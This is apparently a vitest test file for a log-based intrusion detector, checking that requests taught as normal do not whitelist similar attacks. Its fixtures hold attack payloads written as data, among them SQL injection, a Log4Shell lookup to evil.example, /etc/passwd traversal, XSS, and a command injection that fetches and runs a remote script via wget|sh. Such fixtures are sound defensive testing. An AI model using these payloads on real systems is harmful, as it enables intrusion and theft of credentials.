/**
 * An attacker who knows what was taught, and sends what looks like it. Every line here is flagged by the model alone, and has to
 * stay so; the corrected line itself is made normal, so that the entry is known to work.
 */
import { describe, expect, test } from "vitest";
import { Filter } from "../../../host/filter.ts";
import type { Scope } from "../../../host/taught.ts";
import { ARRIVAL } from "../scored.ts";
import { access, BROWSER, built, eventIn, type Request, taughtModule } from "./entries.ts";

/** One's own console, whose queries look like an attack's: a false alarm that somebody corrected. */
const CONSOLE: Request = { path: "/console/api?cmd=ls+-la+/var/log" };
/** One's own page that a scanner would ask for, too. */
const ADMIN: Request = { path: "/phpinfo.php", status: 404 };
/** One's own robot. */
const ROBOT: Request = { path: "/health", agent: "MyProbe/1.0" };

const SQL = "1+union+select+password,2+from+users--";
const LOG4SHELL = "$" + "{jndi:ldap://evil.example/a}";
const TRAVERSAL = "../../../../etc/passwd";

/** Requests that must stay what the model says, though `taught` is normal by this scope. */
function unchanged(taught: Request, scope: Scope, requests: Record<string, Request>): void {
  const module = taughtModule(access(taught), scope, "normal");
  test(`${scope}: the corrected line itself is normal`, () => {
    expect(eventIn(built, access(taught)).label).not.toBe("normal");
    expect(eventIn(module, access(taught)).label).toBe("normal");
  });
  test.each(Object.entries(requests))(`${scope}: %s`, (_, request) => {
    const line = access({ ...taught, ...request });
    const { id: _id, ...event } = eventIn(built, line);
    expect(event.label, line).not.toBe("normal");
    expect(eventIn(module, line), line).toMatchObject(event);
  });
}

describe("a console whose query is a false alarm", () => {
  unchanged(CONSOLE, "client", {
    "from another address": { ip: "203.0.113.10" },
    "from another notation of another address": { ip: "::ffff:203.0.113.10" },
    "by another method": { method: "POST" },
    "at another path": { path: "/console/api2?cmd=ls+-la+/var/log" },
    "at a path that goes on": { path: "/console/api/x?cmd=ls+-la+/var/log" },
    "SQL in the query": { path: `/console/api?cmd=${SQL}` },
    "SQL in one more parameter": { path: `/console/api?cmd=ls+-la+/var/log&id=${SQL}` },
    "steps up in the query": { path: `/console/api?cmd=${TRAVERSAL}` },
    "steps up in the path": { path: `/console/${TRAVERSAL}?cmd=ls+-la+/var/log` },
    "a script in the query": { path: "/console/api?cmd=<script>document.location='//e.example'</script>" },
    "a look-up in the query": { path: `/console/api?cmd=${LOG4SHELL}` },
    "a look-up in the agent": { agent: LOG4SHELL },
    "a look-up behind a browser's agent": { agent: `${BROWSER} ${LOG4SHELL}` },
    "a look-up in the referer": { referer: `http://a.example/${LOG4SHELL}` },
    "SQL in the referer": { referer: `http://a.example/?q=${SQL}` },
    "a scanner's agent": { agent: "sqlmap/1.8#stable (https://sqlmap.org)" },
    "a command that scores no more": { path: "/console/api?cmd=whoami" },
    "a worse command": { path: "/console/api?cmd=;wget+http://evil.example/x.sh+-O-|sh;cat+/etc/passwd" },
  });

  unchanged(CONSOLE, "template", {
    "from another /24": { ip: "203.0.114.9" },
    "one parameter more": { path: "/console/api?cmd=ls+-la+/var/log&x=1" },
    "another parameter": { path: "/console/api?exec=ls+-la+/var/log" },
    "SQL in the query": { path: `/console/api?cmd=${SQL}` },
    "a look-up in the agent": { agent: LOG4SHELL },
    "a look-up in the referer": { referer: `http://a.example/${LOG4SHELL}` },
  });
});

describe("a page that scanners ask for", () => {
  unchanged(ADMIN, "client", {
    "from another address": { ip: "198.51.100.9" },
    "in other letters": { path: "/Phpinfo.php" },
    encoded: { path: "/%70hpinfo.php" },
    "with a path behind it": { path: "/phpinfo.php/.env" },
    "SQL in a query": { path: `/phpinfo.php?id=${SQL}` },
    "a script in a query": { path: "/phpinfo.php?q=<script>alert(1)</script>" },
    "a look-up in the agent": { agent: LOG4SHELL },
  });
});

describe("a robot of one's own", () => {
  unchanged(ROBOT, "agent", {
    "another version": { agent: "MyProbe/1.1" },
    "in other letters": { agent: "myprobe/1.0" },
    "a blank more": { agent: "MyProbe/1.0 " },
    "its name and another's": { agent: "MyProbe/1.0 zgrab/0.x" },
    "an attack under its name": { path: `/search?q=${SQL}` },
    "steps up under its name": { path: `/files/${TRAVERSAL}` },
    "a look-up under its name": { path: `/?q=${LOG4SHELL}` },
    "what scanners ask for under its name": { path: "/.env" },
    "a look-up in the referer under its name": { referer: `http://a.example/${LOG4SHELL}` },
  });

  test("an attack that was corrected does not become normal by its agent, though its scores are not beyond", () => {
    const line = access(CONSOLE);
    const { id: _, ...event } = eventIn(built, line);
    expect(eventIn(taughtModule(line, "agent", "normal"), line)).toMatchObject(event);
  });
});

describe("a client that a header names", () => {
  const CLIENT = "203.0.113.9";
  const record = (peer: string, list: string) => ({
    remote_addr: peer,
    x_forwarded_for: list,
    method: "GET",
    path: CONSOLE.path,
    status: 200,
    agent: BROWSER,
  });
  const genuine = record("10.0.0.2", CLIENT);
  const module = taughtModule(genuine, "client", "normal");

  test("is taught where a trusted proxy wrote it", () => {
    expect(eventIn(built, genuine)).toMatchObject({ label: "attack", ip: CLIENT });
    expect(eventIn(module, genuine).label).toBe("normal");
    expect(eventIn(module, { ...record(CLIENT, ""), x_forwarded_for: undefined }).label).toBe("normal");
  });

  test.each([
    ["behind no trusted proxy", record("198.51.100.66", CLIENT)],
    ["in front of what the proxy wrote", record("10.0.0.2", `${CLIENT}, 198.51.100.66`)],
    ["in a list that begins with it", record("198.51.100.66", `${CLIENT}, 10.0.0.2`)],
    ["as one address of its own", { ...record("198.51.100.66", CLIENT), x_real_ip: CLIENT }],
  ])("is nobody's where it was forged: %s", (_, forged) => {
    expect(eventIn(module, forged)).toMatchObject({ label: "attack", ip: "198.51.100.66" });
  });
});

describe("other lines than requests", () => {
  const ssh = (verb: string, user: string, ip = "203.0.113.99") =>
    `Nov 21 06:19:05 web1 sshd[812]: ${verb} password for ${user} from ${ip} port 40022 ssh2`;

  test("a failure that was corrected is no other account's, no other address's, and no login", () => {
    const module = taughtModule(ssh("Failed", "backup"), "client", "normal");
    expect(eventIn(module, ssh("Failed", "backup")).label).toBe("normal");
    for (const line of [ssh("Failed", "root"), ssh("Failed", "backup", "203.0.113.98")])
      expect(eventIn(module, line)).toMatchObject({ label: "attack", why: eventIn(built, line).why });
  });

  test("a name can't be written so that the line is another account's or address's", () => {
    const module = taughtModule(ssh("Failed", "backup"), "client", "normal");
    for (const user of ["backup from 203.0.113.99 port 40022 ssh2: x", "backup from 203.0.113.99"])
      expect(eventIn(module, ssh("Failed", user, "198.51.100.66")).label).toBe("attack");
  });

  const nginx = (request: string) =>
    `2026/11/21 06:19:00 [error] 12#34: *56 open() "/srv/x" failed (2: No such file or directory), client: 203.0.113.7, server: a, request: "${request} HTTP/1.1", host: "h"`;

  test.each(["client", "template"] as const)(
    "an error about one request, by %s, is none about another: its own attack counts",
    (scope) => {
      const module = taughtModule(nginx("GET /.env"), scope, "normal");
      expect(eventIn(module, nginx("GET /.env")).label).toBe("normal");
      for (const request of ["GET /.git/config", `GET /.env?q=${SQL}`, `GET /a?q=${SQL}`]) {
        const { id: _, ...event } = eventIn(built, nginx(request));
        expect(event.label).toBe("attack");
        expect(eventIn(module, nginx(request)), request).toMatchObject(event);
      }
    },
  );
});

describe("a client that was taught normal on one page", () => {
  const filters = () => {
    const line = access({ ...ADMIN, path: "/phpinfo.php" });
    return [built, taughtModule(line, "client", "normal")].map((module) => Filter.load(module));
  };
  const score = (filter: Filter, request: Request) =>
    filter.event(JSON.stringify({ log: access(request) }), ARRIVAL);

  test("and begins to scan is found on others, and at last on that page, too", () => {
    const [alone, taught] = filters() as [Filter, Filter];
    expect(score(taught, ADMIN)?.label).toBe("normal");
    score(alone, ADMIN);
    const names = ["shell", "config.bak", ".env", "wp-login.php", "phpinfo.php", "dump.sql", ".git/config"];
    for (let i = 0; i < 40; i++) {
      const request = { path: `/${i}/${names[i % names.length]}`, status: 404 };
      const { id: _, ...event } = score(alone, request) ?? { id: "" };
      expect(score(taught, request)).toMatchObject(event);
    }
    expect(score(alone, ADMIN)?.label).not.toBe("normal");
    expect(score(taught, ADMIN)?.label).not.toBe("normal");
  });
});
